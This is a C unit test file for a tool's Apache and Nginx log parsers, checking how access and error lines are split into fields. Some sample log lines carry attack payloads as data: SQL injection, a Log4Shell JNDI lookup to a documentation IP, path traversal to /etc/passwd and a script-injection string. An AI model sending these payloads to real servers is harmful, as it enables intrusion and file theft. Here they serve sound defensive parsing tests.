/* test_parse_apache.c — "apache_access" (common, combined, vhost_combined,
 * Nginx combined, attack URLs, escapes) and "apache_error" (Apache 2.2/2.4,
 * Nginx, and all of loghub's Apache_2k.log). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/logsource.h"
#include "parse/parse.h"
#include "parse_test_util.h"

extern const vg_parser vg_parser_apache_access;
extern const vg_parser vg_parser_apache_error;

static int parse_with(const vg_parser *p, const char *line)
{
	vg_event_reset(ev, line, strlen(line), "test", 1);
	return p->parse(ev);
}

static int access_line(const char *line)
{
	return parse_with(&vg_parser_apache_access, line);
}

static int error_line(const char *line)
{
	return parse_with(&vg_parser_apache_error, line);
}

static void web_tags(void)
{
	assert_int_equal(ev->category, VG_CATEGORY_WEBSERVER);
	assert_int_equal(ev->layer, VG_LAYER_APPLICATION);
	assert_int_equal(ev->product, 0);
	assert_int_equal(ev->service, 0);
}

/* ---- access -------------------------------------------------------------- */

static void test_common(void **state)
{
	(void)state;
	assert_int_equal(access_line("127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326"), 0);
	web_tags();
	assert_true(ev->ts_us == 971211336000000LL);
	want("source.ip", "127.0.0.1");
	want("user.name", "frank");
	want("http.request.method", "GET");
	want("url.original", "/apache_pb.gif");
	want("url.path", "/apache_pb.gif");
	absent("url.query");
	want("http.version", "1.0");
	want_num("http.response.status_code", "200");
	want_num("http.response.body.bytes", "2326");
	absent("http.request.referrer");
	absent("user_agent.original");
	absent("url.domain");

	/* %h as a name, IPv6 */
	assert_int_equal(access_line("client.example.org - - [10/Oct/2000:13:55:36 +0000] \"GET / HTTP/1.1\" 200 1"), 0);
	want("source.domain", "client.example.org");
	absent("source.ip");
	absent("user.name");
	assert_int_equal(access_line("::1 - - [10/Oct/2000:13:55:36 +0000] \"OPTIONS * HTTP/1.0\" 200 -"), 0);
	want("source.ip", "::1");
	want("url.original", "*");
	absent("url.path");
	absent("http.response.body.bytes");
}

static void test_combined_attacks(void **state)
{
	(void)state;
	assert_int_equal(access_line("203.0.113.9 - - [02/Jan/2024:03:04:05 +0000] \"GET "
				     "/item.php?id=1%27%20OR%20%271%27=%271&x=2 HTTP/1.1\" 500 - \"http://evil.example/\" "
				     "\"sqlmap/1.7.2#stable (https://sqlmap.org)\""),
			 0);
	web_tags();
	assert_true(ev->ts_us == 1704164645000000LL);
	want("url.original", "/item.php?id=1%27%20OR%20%271%27=%271&x=2");
	want("url.path", "/item.php");
	want("url.query", "id=1%27%20OR%20%271%27=%271&x=2");
	want_num("http.response.status_code", "500");
	absent("http.response.body.bytes");
	want("http.request.referrer", "http://evil.example/");
	want("user_agent.original", "sqlmap/1.7.2#stable (https://sqlmap.org)");

	assert_int_equal(access_line("198.51.100.7 - - [10/Dec/2021:10:00:00 +0000] \"GET "
				     "/?x=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1\" 200 612 \"-\" "
				     "\"${jndi:ldap://198.51.100.7:1389/ua}\""),
			 0);
	want("url.original", "/?x=${jndi:ldap://198.51.100.7:1389/a}");
	want("url.path", "/");
	want("url.query", "x=${jndi:ldap://198.51.100.7:1389/a}");
	absent("http.request.referrer");
	want("user_agent.original", "${jndi:ldap://198.51.100.7:1389/ua}");

	assert_int_equal(access_line("192.0.2.50 - - [10/Dec/2021:10:00:00 +0000] \"GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd "
				     "HTTP/1.1\" 400 226 \"-\" \"curl/8.0\""),
			 0);
	want("url.path", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd");
	assert_int_equal(access_line("192.0.2.50 - - [10/Dec/2021:10:00:00 +0000] \"GET /../../etc/passwd HTTP/1.1\" 404 "
				     "196 \"-\" \"-\""),
			 0);
	want("url.path", "/../../etc/passwd");
	absent("user_agent.original");

	/* a request target with blanks (sent raw by a scanner) */
	assert_int_equal(access_line("192.0.2.50 - - [10/Dec/2021:10:00:00 +0000] \"GET /a b c HTTP/1.1\" 400 0"), 0);
	want("http.request.method", "GET");
	want("url.original", "/a b c");
	want("http.version", "1.1");
}

static void test_vhost_and_nginx(void **state)
{
	(void)state;
	assert_int_equal(access_line("www.example.com:443 192.0.2.1 - alice [10/Oct/2000:13:55:36 -0700] \"POST /login "
				     "HTTP/2.0\" 302 0 \"https://www.example.com/\" \"Mozilla/5.0 (X11)\""),
			 0);
	web_tags();
	want("url.domain", "www.example.com");
	want_num("destination.port", "443");
	want("source.ip", "192.0.2.1");
	want("user.name", "alice");
	want("http.request.method", "POST");
	want("http.version", "2.0");
	want_num("http.response.body.bytes", "0");
	want("user_agent.original", "Mozilla/5.0 (X11)");

	/* Nginx default "combined", with its \x22 escaping of quotes and an
	 * extra $http_x_forwarded_for field */
	assert_int_equal(access_line("93.184.216.34 - - [02/Jan/2024:03:04:05 +0000] \"GET "
				     "/?q=\\x22><script>alert(1)</script> HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 zgrab/0.x\" \"-\""),
			 0);
	want("url.query", "q=\\x22><script>alert(1)</script>");
	want("user_agent.original", "Mozilla/5.0 zgrab/0.x");

	/* proxy-style absolute target */
	assert_int_equal(access_line("10.0.0.1 - - [02/Jan/2024:03:04:05 +0000] \"GET http://example.com/x?y=1 HTTP/1.1\" "
				     "200 1 \"-\" \"-\""),
			 0);
	want("url.domain", "example.com");
	want("url.path", "/x");
	want("url.query", "y=1");
}

static void test_escapes_and_garbage(void **state)
{
	(void)state;
	/* TLS handshake on the HTTP port, as Apache logs it */
	assert_int_equal(access_line("192.0.2.2 - - [10/Oct/2000:13:55:36 -0700] "
				     "\"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\" 400 226 \"-\" \"-\""),
			 0);
	want("url.original", "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03");
	absent("http.request.method");
	absent("url.path");
	want_num("http.response.status_code", "400");

	/* \" inside quoted fields does not end them */
	assert_int_equal(access_line("192.0.2.2 - - [10/Oct/2000:13:55:36 -0700] \"GET /a\\\"b HTTP/1.1\" 200 5 "
				     "\"-\" \"Agent \\\"quoted\\\" x\""),
			 0);
	want("url.original", "/a\"b");
	want("user_agent.original", "Agent \"quoted\" x");

	/* a logger that does not escape quotes at all */
	assert_int_equal(access_line("10.0.0.1 - - [10/Oct/2000:13:55:36 -0700] \"GET /a\"b HTTP/1.1\" 200 5 \"-\" \"ua\""), 0);
	want("url.original", "/a\"b");
	want_num("http.response.status_code", "200");
	want("user_agent.original", "ua");

	/* "-" request (timeouts) */
	assert_int_equal(access_line("192.0.2.3 - - [10/Oct/2000:13:55:36 -0700] \"-\" 408 -"), 0);
	want("url.original", "-");
	absent("http.request.method");
	want_num("http.response.status_code", "408");

	/* not access lines */
	assert_int_equal(access_line("Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user x from 1.2.3.4"), VG_EPARSE);
	assert_int_equal(access_line("[Sun Dec 04 04:47:44 2005] [error] x"), VG_EPARSE);
	assert_int_equal(access_line("1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.1\""), VG_EPARSE);
	assert_int_equal(access_line("1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.1\" 200"), VG_EPARSE);
	assert_int_equal(access_line("1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.1"), VG_EPARSE);
	assert_int_equal(access_line(""), VG_EPARSE);
}

/* ---- error --------------------------------------------------------------- */

static void test_error_apache(void **state)
{
	(void)state;
	assert_int_equal(error_line("[Sun Dec 04 04:47:44 2005] [error] [client 1.2.3.4] Directory index forbidden by "
				    "rule: /var/www/html/"),
			 0);
	assert_true(ev->ts_us == 1133671664000000LL);
	assert_int_equal(ev->service, VG_SERVICE_APACHE);
	assert_int_equal(ev->product, VG_PRODUCT_APACHE);
	assert_int_equal(ev->layer, VG_LAYER_APPLICATION);
	want("log.level", "error");
	absent("log.logger");
	want("source.ip", "1.2.3.4");
	absent("source.port");
	want("message", "Directory index forbidden by rule: /var/www/html/");

	assert_int_equal(error_line("[Wed Oct 11 14:32:52.123456 2017] [core:error] [pid 1234:tid 5678] [client "
				    "1.2.3.4:5678] AH00124: Request exceeded the limit of 10 internal redirects due to "
				    "probable configuration error., referer: http://x.example/"),
			 0);
	assert_true(ev->ts_us == 1507732372123456LL);
	want("log.logger", "core");
	want("log.level", "error");
	want_num("process.pid", "1234");
	want_num("process.thread.id", "5678");
	want("source.ip", "1.2.3.4");
	want_num("source.port", "5678");
	want("error.code", "AH00124");
	want("message", "AH00124: Request exceeded the limit of 10 internal redirects due to probable configuration "
			"error., referer: http://x.example/");
	want("http.request.referrer", "http://x.example/");

	assert_int_equal(error_line("[Wed Oct 11 14:32:52.123456 2017] [mpm_event:notice] [pid 1:tid 2] AH00489: "
				    "Apache/2.4.57 (Debian) configured -- resuming normal operations"),
			 0);
	want("log.logger", "mpm_event");
	want("log.level", "notice");
	absent("source.ip");
	want("error.code", "AH00489");

	assert_int_equal(error_line("[Wed Oct 11 14:32:52 2017] [php7:warn] [pid 9] [client ::1:45678] PHP Warning: x"), 0);
	want("source.ip", "::1");
	want_num("source.port", "45678");
	absent("error.code");

	assert_int_equal(error_line("[Sun Dec 04 04:47:44 2005] [notice] child pid 1234 exit signal Segmentation fault (11)"), 0);
	want("message", "child pid 1234 exit signal Segmentation fault (11)");

	assert_int_equal(error_line("Dec 10 06:55:46 LabSZ sshd[24200]: x"), VG_EPARSE);
	assert_int_equal(error_line("[Sun Dec 04 04:47:44 2005] notice"), VG_EPARSE);
	assert_int_equal(error_line("[Sun Dec 04 04:47:44 2005] [] x"), VG_EPARSE);
}

static void test_error_nginx(void **state)
{
	(void)state;
	assert_int_equal(error_line("2024/01/02 03:04:05 [error] 1234#0: *5 open() \"/usr/share/nginx/html/x\" failed (2: "
				    "No such file or directory), client: 1.2.3.4, server: example.com, request: \"GET /x?a=1 "
				    "HTTP/1.1\", host: \"example.com\", referrer: \"http://r.example/\""),
			 0);
	assert_true(ev->ts_us == 1704164645000000LL);
	assert_int_equal(ev->service, VG_SERVICE_NGINX);
	assert_int_equal(ev->product, VG_PRODUCT_NGINX);
	assert_int_equal(ev->layer, VG_LAYER_APPLICATION);
	want("log.level", "error");
	want_num("process.pid", "1234");
	want_num("process.thread.id", "0");
	want("message", "open() \"/usr/share/nginx/html/x\" failed (2: No such file or directory)");
	want("source.ip", "1.2.3.4");
	want("url.domain", "example.com");
	want("http.request.method", "GET");
	want("url.original", "/x?a=1");
	want("url.path", "/x");
	want("url.query", "a=1");
	want("http.request.referrer", "http://r.example/");

	assert_int_equal(error_line("2024/01/02 03:04:05 [alert] 99#99: worker process 100 exited on signal 6 (core dumped)"), 0);
	want("log.level", "alert");
	want("message", "worker process 100 exited on signal 6 (core dumped)");
	absent("source.ip");

	assert_int_equal(error_line("2024/01/02 03:04:05 [error] x#0: y"), VG_EPARSE);
	assert_int_equal(error_line("2024/13/02 03:04:05 [error] 1#0: y"), VG_EPARSE);
}

static char *slurp(const char *name, size_t *len)
{
	const char *dir = getenv("VG_CORPUS");
	char path[4096];
	snprintf(path, sizeof(path), "%s/loghub/%s", dir != NULL ? dir : ".", name);
	FILE *f = fopen(path, "rb");
	if (f == NULL)
		fail_msg("cannot read %s (set VG_CORPUS)", path);
	fseek(f, 0, SEEK_END);
	long n = ftell(f);
	fseek(f, 0, SEEK_SET);
	char *buf = malloc((size_t)n + 1);
	assert_non_null(buf);
	assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
	fclose(f);
	*len = (size_t)n;
	return buf;
}

static void test_loghub_apache(void **state)
{
	(void)state;
	size_t len, lines = 0, raw = 0, clients = 0, errors = 0;
	char *buf = slurp("Apache_2k.log", &len);
	for (size_t off = 0; off < len;) {
		char *nl = memchr(buf + off, '\n', len - off);
		size_t n = nl != NULL ? (size_t)(nl - (buf + off)) : len - off;
		vg_event_reset(ev, buf + off, n, "Apache_2k.log", lines + 1);
		const vg_parser *p = vg_parse_record(&vg_parser_apache_error, ev);
		lines++;
		if (p == NULL) {
			raw++;
			print_message("raw: %.*s\n", (int)n, buf + off);
			off += n + 1;
			continue;
		}
		assert_ptr_equal(p, &vg_parser_apache_error);
		assert_true(ev->ts_us != VG_TS_NONE);
		assert_non_null(vg_event_get(ev, "message"));
		clients += vg_event_get(ev, "source.ip") != NULL;
		const vg_field *lv = vg_event_get(ev, "log.level");
		assert_non_null(lv);
		errors += lv->val_len == 5 && memcmp(lv->val, "error", 5) == 0;
		off += n + 1;
	}
	free(buf);
	assert_int_equal(lines, 2000);
	assert_int_equal(raw, 0);
	/* grep -c '\[client ' Apache_2k.log → 32; grep -c '\[error\]' → 595 */
	assert_int_equal(clients, 32);
	assert_int_equal(errors, 595);
}

static void test_probe(void **state)
{
	(void)state;
	static const struct {
		const char *line;
		int access, error;
	} cases[] = {
		{"127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.0\" 200 2326", 90, 0},
		{"v.example:80 127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.0\" 200 2326 \"-\" \"-\"", 90, 0},
		{"[Sun Dec 04 04:47:44 2005] [notice] x", 0, 90},
		{"2024/01/02 03:04:05 [error] 1234#0: *5 x", 0, 90},
		{"Dec 10 06:55:46 LabSZ sshd[24200]: x", 0, 0},
		{"{\"a\": 1}", 0, 0},
		{"type=SYSCALL msg=audit(1364481363.243:24287): a=1", 0, 0},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		size_t n = strlen(cases[i].line);
		assert_int_equal(vg_parser_apache_access.probe(cases[i].line, n), cases[i].access);
		assert_int_equal(vg_parser_apache_error.probe(cases[i].line, n), cases[i].error);
	}
	/* detection over a few access lines */
	const char *lines[] = {
		"127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.0\" 200 2326 \"-\" \"curl\"",
		"127.0.0.2 - - [10/Oct/2000:13:55:37 -0700] \"GET /x HTTP/1.0\" 404 20 \"-\" \"curl\"",
	};
	size_t lens[] = {strlen(lines[0]), strlen(lines[1])};
	const vg_parser *p = vg_parser_detect(lines, lens, 2);
	assert_non_null(p);
	assert_string_equal(p->name, "apache_access");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_common),          cmocka_unit_test(test_combined_attacks),
		cmocka_unit_test(test_vhost_and_nginx), cmocka_unit_test(test_escapes_and_garbage),
		cmocka_unit_test(test_error_apache),    cmocka_unit_test(test_error_nginx),
		cmocka_unit_test(test_loghub_apache),   cmocka_unit_test(test_probe),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
